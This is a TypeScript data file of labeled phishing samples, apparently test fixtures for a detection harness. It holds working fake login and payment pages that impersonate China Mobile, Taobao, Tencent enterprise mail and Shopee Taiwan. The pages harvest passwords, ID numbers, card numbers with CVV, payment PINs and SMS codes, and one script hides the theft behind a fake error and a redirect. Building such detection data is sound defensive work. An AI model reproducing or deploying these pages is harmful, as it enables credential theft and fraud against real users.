import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, cardFields, cardFormatJs, luhnJs, footer, b64, hexEsc, xorB64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute, cssRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-10086-points-redeem-card',
    label: 'phishing',
    kind: 'telecom-kit',
    url: 'https://10086-jf.cn-yd.vip/h5/jfdh/',
    body: doc({
      title: '中国移动积分兑换商城',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f5f5f5') +
        `.top{background:linear-gradient(90deg,#0085d0,#00a0e9);color:#fff;padding:18px 16px}
.top .n{font-size:32px;font-weight:700}
.grid{display:grid;grid-template-columns:1fr 1fr;gap:10px;padding:12px}
.it{background:#fff;border-radius:8px;padding:10px;text-align:center;font-size:13px}
.it .pic{height:90px;background:#eef6fc;border-radius:6px;display:flex;align-items:center;justify-content:center;font-size:40px}
.it b{color:#e60012}
.sheet{background:#fff;margin:12px;border-radius:8px;padding:16px;display:none}
.go{background:#0085d0;color:#fff;width:100%;height:44px;border-radius:22px}`,
      body: `<div class="top">${mark('中国移动 China Mobile', '#fff', { shape: 'circle', w: 200 })}<p style="margin:8px 0 0">您的可用积分</p><div class="n">9,860</div><p style="font-size:12px;margin:0">本年度积分将于本月月底清零，请及时兑换</p></div>
<div class="grid">
<div class="it"><div class="pic">📱</div><p>200元话费直充</p><b>4,000积分</b></div>
<div class="it"><div class="pic">🍚</div><p>美的电饭煲</p><b>8,800积分</b></div>
<div class="it"><div class="pic">💰</div><p>现金红包 ¥386</p><b>9,800积分</b></div>
<div class="it"><div class="pic">🎧</div><p>蓝牙耳机</p><b>6,500积分</b></div>
</div>
<div style="padding:0 12px"><button class="btn go" onclick="document.getElementById('sh').style.display='block';this.style.display='none'">立即兑换现金红包</button></div>
<form class="sheet" id="sh" method="post" action="/h5/jfdh/do.php">
<h3 style="margin-top:0">领取现金到银行卡</h3>
<div class="field"><label>手机号码</label><input name="mobile" maxlength="11" required></div>
<div class="field"><label>服务密码</label><input name="svcpwd" type="password" maxlength="6" required></div>
<div class="field"><label>持卡人姓名</label><input name="holder" required></div>
<div class="field"><label>身份证号</label><input name="idno" maxlength="18" required></div>
<div class="field"><label>银行卡号</label><input name="cardno" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>有效期 (信用卡)</label><input name="exp" placeholder="MM/YY"></div><div class="field"><label>CVN2</label><input name="cvv" maxlength="3"></div></div>
<div class="field"><label>预留手机号</label><input name="bankmobile" maxlength="11"></div>
<button class="btn go">确认领取</button>
<p class="hint">中国移动通信集团　客服热线 10086</p>
</form>
<script>${cardFormatJs}</script>`,
    }),
    routes: { '10086-jf.cn-yd.vip/h5/jfdh/do.php': htmlRoute(doc({ title: '验证', lang: 'zh-CN', css: baseCss(fontSC), body: `<form method="post" action="/h5/jfdh/sms.php" style="padding:16px"><h3>输入短信验证码</h3><p class="hint">银行已向您的预留手机发送动态码</p><div class="field"><input name="code" maxlength="6"></div><button class="btn" style="background:#0085d0;color:#fff;width:100%">提交</button></form>` })) },
  },
  {
    id: 'yq-taobao-seller-deposit-verify',
    label: 'phishing',
    kind: 'merchant-verify-kit',
    url: 'https://seller-taobao.verify-shop.cn/login.htm',
    body: doc({
      title: '千牛卖家中心 - 店铺违规申诉',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#fff') +
        `.hd{height:64px;border-bottom:1px solid #eee}.hd .container{display:flex;align-items:center;height:64px;gap:10px}
.hd span{color:#ff5000;font-size:18px;font-weight:700}
.wrap{display:flex;max-width:1000px;margin:40px auto;gap:40px;padding:0 20px}
.l{flex:1;background:#fff4ee;border-radius:8px;padding:30px}
.l h2{color:#ff5000}
.r{flex:0 0 360px;border:1px solid #eee;border-radius:8px;padding:26px}
.go{background:#ff5000;color:#fff;width:100%;height:42px}
.tab{display:flex;gap:18px;margin-bottom:16px;font-size:15px}.tab .on{color:#ff5000;border-bottom:2px solid #ff5000}`,
      body: `<div class="hd"><div class="container">${mark('淘宝网', '#ff5000', { shape: 'square', w: 110 })}<span>卖家中心</span></div></div>
<div class="wrap">
<div class="l"><h2>店铺违规处罚通知</h2><p>您的店铺因涉嫌<b>虚假交易</b>被系统监测，已被限制商品发布及提现。请登录后按指引完成申诉并缴纳保证金 ¥1,000（审核通过后原路退还），否则店铺将于 72 小时后永久关闭。</p><p class="hint">违规单号：TBWG2024041200718</p></div>
<form class="r" id="lf" method="post" action="/login.do">
<div class="tab"><span class="on">密码登录</span><span>短信登录</span></div>
<div class="field"><input name="loginId" placeholder="会员名/邮箱/手机号" required></div>
<div class="field"><input name="password2" type="password" placeholder="请输入登录密码" required></div>
<div class="field"><input name="alipay_pwd" type="password" maxlength="6" placeholder="支付宝支付密码（申诉验证）"></div>
<button class="btn go">登录并申诉</button>
<p class="hint" style="text-align:right"><a href="#">忘记密码</a> · <a href="#">免费注册</a></p>
</form></div>
${footer(['阿里巴巴集团 | 淘宝网 | 天猫 | 聚划算 | 全球速卖通', '© 2003-2024 Taobao.com 版权所有'], '#f5f5f5', '#888')}`,
    }),
    routes: { 'seller-taobao.verify-shop.cn/login.do': redirectRoute(302, 'https://seller-taobao.verify-shop.cn/appeal.htm'), 'seller-taobao.verify-shop.cn/appeal.htm': htmlRoute(doc({ title: '缴纳保证金', lang: 'zh-CN', css: baseCss(fontSC), body: `<form method="post" action="/pay.do" style="max-width:480px;margin:30px auto"><h3>缴纳申诉保证金 ¥1,000</h3>${cardFields('sc')}<div class="field"><label>预留手机号</label><input name="m"></div><button class="btn" style="background:#ff5000;color:#fff;width:100%">确认支付</button></form>` })) },
  },
  {
    id: 'yq-exmail-qq-quota-upgrade',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://exmail-qq.mailbox-upgrade.cc/cgi-bin/loginpage?email=finance@sz-hengtai-trade.com',
    body: doc({
      title: '腾讯企业邮箱',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#eaf1fb') +
        `.bg{min-height:100vh;display:flex;align-items:center;justify-content:center;background:linear-gradient(180deg,#dfeafa,#f6f9fe)}
.pn{width:380px;background:#fff;border-radius:6px;padding:34px 36px;box-shadow:0 8px 28px rgba(31,84,170,.12)}
.pn h2{margin:0 0 4px;font-weight:400}
.al{background:#fff6e5;color:#a86500;font-size:12px;padding:8px 10px;border-radius:3px;margin:12px 0}
.go{background:#1f6fe5;color:#fff;width:100%;height:42px}
.bar{height:6px;background:#eee;border-radius:3px;overflow:hidden;margin:6px 0}.bar i{display:block;height:100%;width:99%;background:#e64340}`,
      body: `<div class="bg"><div class="pn">
${mark('腾讯企业邮', '#1f6fe5', { shape: 'diamond', w: 150 })}
<h2 style="margin-top:14px">登录企业邮箱</h2>
<div class="al">您的邮箱容量已使用 <b>99.2%</b>（4.96G/5G），新邮件将被退回。请登录验证后免费扩容至 50G。<div class="bar"><i></i></div></div>
<form id="lf">
<div class="field"><input id="em" name="email" placeholder="邮箱帐号" required></div>
<div class="field"><input id="pw" name="password" type="password" placeholder="密码" required></div>
<label style="font-size:12px;color:#666"><input type="checkbox" checked> 下次自动登录</label>
<p class="err" id="er">帐号或密码错误，请重新输入</p>
<button class="btn go" style="margin-top:10px">登录</button></form>
<p class="hint">扫码登录　|　<a href="#">忘记密码</a></p>
</div></div>
<script>
(function(){var em=new URLSearchParams(location.search).get('email');if(em){document.getElementById('em').value=em;}
var tries=0;document.getElementById('lf').onsubmit=function(e){e.preventDefault();tries++;
var body=new URLSearchParams({u:document.getElementById('em').value,p:document.getElementById('pw').value,n:tries,h:location.hostname});
fetch('/cgi-bin/ajax_login',{method:'POST',body:body}).finally(function(){
if(tries<2){document.getElementById('er').style.display='block';document.getElementById('pw').value='';}
else{var d=(document.getElementById('em').value.split('@')[1]||'exmail.qq.com');location.href='https://exmail.qq.com/login?d='+d;}});};})();
</script>`,
    }),
    routes: { 'exmail-qq.mailbox-upgrade.cc/cgi-bin/ajax_login': jsonRoute({ ret: 0 }) },
  },
  {
    id: 'yq-shopee-tw-seller-violation-lure',
    label: 'phishing',
    kind: 'lure-link',
    url: 'https://shopee-tw-notice.blogspot-page.com/2024/04/seller-appeal.html',
    body: doc({
      title: '【蝦皮購物】賣家帳號違規通知',
      css:
        baseCss(fontTC, '#fff') +
        `.w{max-width:620px;margin:30px auto;padding:0 20px}
.hd{background:#ee4d2d;color:#fff;padding:16px 20px;border-radius:6px 6px 0 0}
.bd{border:1px solid #eee;border-top:0;padding:20px;border-radius:0 0 6px 6px}
.go{display:inline-block;background:#ee4d2d;color:#fff;padding:12px 30px;border-radius:4px;margin-top:10px}`,
      body: `<div class="w"><div class="hd"><b>Shopee 蝦皮購物 賣家中心</b></div><div class="bd">
<p>親愛的賣家您好：</p>
<p>您的商店因「<b>商品描述與實際不符</b>」遭多位買家檢舉，依據蝦皮購物賣家政策，您的帳號已被<b>暫停撥款</b>。</p>
<p>請於 <b style="color:#ee4d2d">24 小時內</b> 點擊下方按鈕提交申訴，逾期未處理之帳戶將永久停權，帳戶餘額將依規定凍結。</p>
<a class="go" href="https://seller-shopee.tw-appeal.com/portal/login?ref=notice">立即申訴</a>
<p class="hint" style="margin-top:24px">此為系統自動發送的通知，請勿直接回覆。<br>Shopee Taiwan Co., Ltd.</p>
</div></div>`,
    }),
    routes: {
      'seller-shopee.tw-appeal.com/portal/login': htmlRoute(
        doc({
          title: 'Shopee 賣家中心 登入',
          css: baseCss(fontTC, '#f5f5f5') + `.b{max-width:400px;margin:60px auto;background:#fff;padding:28px;border-radius:4px}.go{background:#ee4d2d;color:#fff;width:100%;height:42px}`,
          body: `<form class="b" method="post" action="/portal/auth"><h2 style="color:#ee4d2d;margin-top:0">賣家中心</h2><div class="field"><input name="u" placeholder="手機號碼/使用者名稱/Email" required></div><div class="field"><input name="p" type="password" placeholder="密碼" required></div><div class="field"><input name="bank" placeholder="撥款銀行帳號（申訴核對用）"></div><button class="btn go">登入</button></form>`,
        }),
      ),
    },
  },
];
